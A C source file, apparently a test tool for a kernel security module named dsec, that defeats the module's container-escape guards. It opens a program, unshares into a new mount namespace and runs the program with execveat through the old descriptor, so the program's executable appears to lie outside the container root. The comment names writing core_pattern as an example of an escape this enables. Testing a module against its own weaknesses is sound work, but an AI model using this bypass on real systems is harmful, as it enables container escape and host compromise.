// SPDX-License-Identifier: GPL-2.0
/*
 * Make a container task look like its runtime to dsec.ko, then run a
 * program.
 *
 *   attack_nsexe PROGRAM [ARG]...
 *
 * dsec lets every guard but MODULE_LOAD through for a task whose
 * executable lies outside its root, because runc init and crun's init
 * run the host's runtime binary inside the container cgroup. A
 * privileged container gets there by itself. It opens PROGRAM and moves
 * to a copy of its mount namespace with unshare(CLONE_NEWNS), so its
 * root is a mount of the new namespace. It then executes PROGRAM through
 * the descriptor, whose mount belongs to the old namespace and so lies
 * outside the new root. PROGRAM runs with the escape guards off, e.g.
 * knob-write on core_pattern.
 *
 * Steps: "open", "unshare", "execveat". The exit status is PROGRAM's
 * when the steps succeed.
 */
#include <fcntl.h>
#include <sched.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "tool.h"

const char *tool_name = "attack_nsexe";

extern char **environ;

int main(int argc, char **argv)
{
	int fd;

	if (argc < 2)
		tool_usage("usage: attack_nsexe PROGRAM [ARG]...");
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		tool_step_failed(errno, "open %s", argv[1]);
	if (unshare(CLONE_NEWNS))
		tool_step_failed(errno, "unshare");
	fflush(stdout);
	syscall(SYS_execveat, fd, "", argv + 1, environ, AT_EMPTY_PATH);
	tool_step_failed(errno, "execveat %s", argv[1]);
}
